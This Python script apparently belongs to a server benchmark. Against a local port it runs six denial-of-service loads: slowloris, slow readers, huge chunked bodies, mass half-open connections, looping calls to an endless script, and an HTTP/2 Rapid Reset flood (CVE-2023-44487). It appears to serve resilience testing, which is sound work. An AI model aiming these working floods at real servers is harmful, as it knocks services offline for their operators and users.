#!/usr/bin/env python3
"""One hostile load (goals.md W16) until standard input ends; "ready" on standard output when it is on.

    attacks.py NAME PORT          NAME: one of ATTACKS
"""
import errno
import json
import os
import select
import socket
import struct
import sys
import time

import clients
from servers import LOOP, TENANT

BUSY = "bench.busy.loop"  # the script of hostile.py
HEAD = f"Host: x\r\nX-Tenant-ID: {TENANT}\r\n"


class Gone(Exception):
    """The one who started us has ended."""


def check():
    if select.select([sys.stdin], [], [], 0)[0] and not os.read(0, 1):
        raise Gone


def ready():
    print("ready", flush=True)


def dial(port, receive_bytes=0):
    s = socket.socket()
    if receive_bytes:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    s.connect(("127.0.0.1", port))
    return s


def offer(s, data):
    """Sends what the other side takes at once. False: it has closed."""
    try:
        s.send(data, socket.MSG_DONTWAIT)
    except OSError as e:
        return e.errno in (errno.EAGAIN, errno.EWOULDBLOCK)
    return True


def keep(make, count, step, pause):
    """So many connections; step(one) every so often, and a new one for each that was closed."""
    held = [make() for _ in range(count)]
    ready()
    while True:
        for i, s in enumerate(held):
            if i % 100 == 0:
                check()
            if not step(s):
                s.close()
                held[i] = make()
        time.sleep(pause)


# --- the loads ----------------------------------------------------------------------------------------

def slowloris(port):
    """1,000 heads of requests that grow by a header each 100 ms and never end."""
    def make():
        s = dial(port)
        s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\n")
        return s
    keep(make, 1000, lambda s: offer(s, b"X-a: b\r\n"), 0.1)


def readers(port):
    """200 clients that ask for 1 MB and read a byte per second of it."""
    body = json.dumps({"header": {"tenant_id": TENANT}, "payload": {"input": "r" * (1 << 20)}})
    request = f"POST {LOOP} HTTP/1.1\r\n{HEAD}Content-Length: {len(body)}\r\n\r\n{body}".encode()

    def make():
        s = dial(port, 4096)
        s.sendall(request)
        return s

    def step(s):
        try:
            return bool(s.recv(1, socket.MSG_DONTWAIT))
        except BlockingIOError:
            return True
        except OSError:
            return False
    keep(make, 200, step, 1.0)


def bodies(port):
    """8 clients with bodies of 64 MB in one chunk, sent whether or not anybody wants them."""
    head = f"POST {LOOP} HTTP/1.1\r\n{HEAD}Transfer-Encoding: chunked\r\n\r\n4000000\r\n".encode()
    part, left = b"b" * 65536, {}

    def make():
        s = dial(port)
        s.sendall(head)
        left[s] = 64 << 20
        return s

    def step(s):
        try:
            left[s] -= s.send(part, socket.MSG_DONTWAIT)
        except BlockingIOError:
            return True
        except OSError:
            left[s] = 0
        if left[s] > 0:
            return True
        del left[s]
        return False
    keep(make, 8, step, 0)


def half_open(port):
    """10,000 connections with half a line of a request, and a new one for each that is closed."""
    def make():
        s = dial(port)
        s.sendall(b"POST /mig/v0.1/inv")
        return s

    def step(s):
        try:
            return bool(s.recv(100, socket.MSG_DONTWAIT))
        except BlockingIOError:
            return True
        except OSError:
            return False
    keep(make, 10_000, step, 0.5)


def lua(port):
    """8 clients that call a script which never ends, again and again."""
    body = json.dumps({"header": {"tenant_id": TENANT, "deadline_ms": 200}, "payload": {}})
    request = (f"POST /mig/v0.1/invoke/{BUSY} HTTP/1.1\r\n{HEAD}Content-Length: {len(body)}\r\n\r\n"
               f"{body}").encode()

    def make():
        s = dial(port)
        s.sendall(request)
        return s

    def step(s):
        try:
            return bool(s.recv(65536, socket.MSG_DONTWAIT)) and offer(s, request)
        except BlockingIOError:
            return True
        except OSError:
            return False
    keep(make, 8, step, 0.01)


def rapid_reset(port):
    """4 HTTP/2 clients that open streams and reset them at once (CVE-2023-44487)."""
    def frame(kind, flags, stream, payload):
        return (len(payload).to_bytes(3, "big") + bytes([kind, flags])
                + struct.pack("!I", stream) + payload)

    def field(name, value):
        return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()

    fields = b"".join(field(*f) for f in ((":method", "POST"), (":scheme", "http"),
                                          (":path", "/mig/v0.1/hello"), (":authority", "x")))
    floods = [b"".join(frame(1, 5, 2 * i + 1, fields) + frame(3, 0, 2 * i + 1, b"\0\0\0\x08")
                       for i in range(at, at + 100)) for at in range(0, 100_000, 100)]
    at = {}

    def make():
        s = dial(port)
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
        at[s] = 0
        return s

    def step(s):
        at[s] += 1
        try:
            s.sendall(floods[at[s] - 1])
            return at[s] < len(floods)
        except OSError:
            return False
    keep(make, 4, step, 0)


ATTACKS = {f.__name__: f for f in (slowloris, readers, bodies, half_open, lua, rapid_reset)}


def main():
    clients.raise_files()
    os.nice(19)  # the healthy client has the same core, and shall not suffer from us there
    try:
        ATTACKS[sys.argv[1]](int(sys.argv[2]))
    except Gone:
        os._exit(0)


if __name__ == "__main__":
    main()
